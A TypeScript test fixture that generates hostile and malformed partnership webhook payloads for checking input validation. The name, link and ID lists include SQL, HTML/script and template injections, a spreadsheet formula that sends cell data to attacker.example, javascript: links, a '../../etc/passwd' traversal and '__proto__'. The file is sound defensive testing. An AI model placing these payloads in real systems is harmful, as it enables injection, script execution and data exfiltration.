import { ACCEPTED, INVALID } from './delivery'
import type { NastyCase, NastyOptions } from './nasty-deliveries'
import type { SampleSource } from './sample-source'

const NAMES: Record<string, string> = {
  'a NUL in a name': 'Null\u0000Company',
  'a lone high surrogate in a name': 'High \ud800 surrogate',
  'a lone low surrogate in a name': 'Low \udfff surrogate',
  'a right-to-left name': 'شركة المثال (نموذج) 123',
  'a name with bidi overrides': 'invoice\u202Efdp.exe\u2066 hidden \u2069\u202C',
  'a name of zero-width characters': '\u200B\u200C\u200D\uFEFF\u2060',
  'a name of emoji sequences': '👩‍👩‍👧‍👦🏳️‍🌈👍🏽🇺🇳❤️‍🔥',
  'a name of combining marks': `Z${'\u0301\u0317\u0360'.repeat(200)}algo`,
  'an SQL snippet as a name': `'); DROP TABLE partnership; --`,
  'an HTML snippet as a name': `<img src=x onerror="alert(1)"><script>alert(2)</script>`,
  'a spreadsheet formula as a name': `=HYPERLINK("https://attacker.example/?"&A1,"open")`,
  'a template snippet as a name': '{{constructor.constructor("return 1")()}} ${7*7} <%= 7*7 %>',
  'terminal escapes in a name': '\u001b[31mred\u001b[0m\u0007\r\nX-Injected: 1',
  'one word of 20,000 letters as a name': 'W'.repeat(20_000),
  'an empty name': '',
  'a name of spaces': '   \t\n  ',
}

const LINKS = [
  'javascript:alert(document.domain)',
  'JaVaScRiPt:\talert(1)',
  'data:text/html,<script>alert(1)</script>',
  '//attacker.example/path',
  'https://user:password@attacker.example/',
  'vbscript:msgbox(1)',
]

const IDS: Record<string, string> = {
  'an id of 200 characters': 'x'.repeat(200),
  'an id with slashes and dots': '../../etc/passwd?x=1#y%2F%00',
  'an id of spaces and quotes': ` "'\\ `,
  'an id with a NUL': 'partnership_\u0000_sample',
  'an id that is an emoji': '🐝',
  'an id named like a property of every object': '__proto__',
}

/** Partnership snapshots that are hard to store or to show. */
export function nastyPartnerships({ source }: NastyOptions): NastyCase[] {
  const accepted = (label: string, fields: Record<string, unknown>): NastyCase => ({
    label,
    ...partnershipEvent(source, fields),
    expected: ACCEPTED,
  })
  const invalid = (label: string, fields: Record<string, unknown>): NastyCase => ({
    ...accepted(label, fields),
    expected: INVALID,
  })
  const field = (type: string, value: unknown, options: unknown = null) => ({
    uuid: source.uuid('cf'),
    label: `Nasty ${type}`,
    type,
    value,
    custom_field_value_uuid: source.uuid('cfv'),
    options,
  })
  const twice = field('text', { text: 'first' })
  return [
    ...Object.entries(NAMES).map(([label, name]) => accepted(label, { company_name: name })),
    ...LINKS.map((link) => accepted(`a link ${link.slice(0, 14)}`, { company_website: link })),
    ...Object.entries(IDS).map(([label, uuid]) => accepted(label, { uuid })),
    invalid('an id of 201 characters', { uuid: 'x'.repeat(201) }),
    invalid('an empty id', { uuid: '' }),
    invalid('a name that is a number', { company_name: 42 }),
    invalid('custom fields that are an object', { custom_fields: {} }),
    invalid('a custom field without a type', { custom_fields: [{ uuid: 'cf_without_type' }] }),
    accepted('every text empty', {
      company_domain: '',
      company_website: '',
      company_email: '',
      stage_uuid: '',
      stage_label: '',
      custom_fields: [],
    }),
    accepted('values of all custom field types that do not fit them', {
      custom_fields: [
        field('number', { number: 'twelve' }),
        field('date', { date: '+275760-09-13T00:00:00.001Z' }),
        field('date', { date: '2026-02-30' }),
        field('boolean', { boolean: 'yes' }),
        field('select', { select: { id: 1 } }, [{ id: 1, label: null }]),
        field('select', { select: 99 }, [{ id: 1, label: 'One' }]),
        field('multi_select', { multi_select: 'all' }, [{ id: 'a', label: 'A' }]),
        field('multi_select', { multi_select: [null, 1, '1', [], 'gone'] }, []),
        field('text', { text: ['a', 'list'] }),
        field('text', 'no object at all'),
        field('hologram', { hologram: { x: 1 } }),
      ],
    }),
    accepted('one custom field twice in a snapshot', {
      custom_fields: [twice, { ...twice, value: { text: 'second' } }],
    }),
    accepted('2,000 custom fields', {
      custom_fields: Array.from({ length: 2_000 }, (_, index) =>
        field('text', { text: `value ${index}` }),
      ),
    }),
  ]
}

/** A partner_updated event with the given fields over harmless ones. */
export function partnershipEvent(source: SampleSource, fields: Record<string, unknown>) {
  const partnership = {
    uuid: source.uuid('partnership'),
    company_name: 'Nasty Sample',
    company_domain: 'nasty-sample.example',
    ...fields,
  }
  return { eventType: 'partner_updated', body: JSON.stringify({ partnership, configuration: [] }) }
}
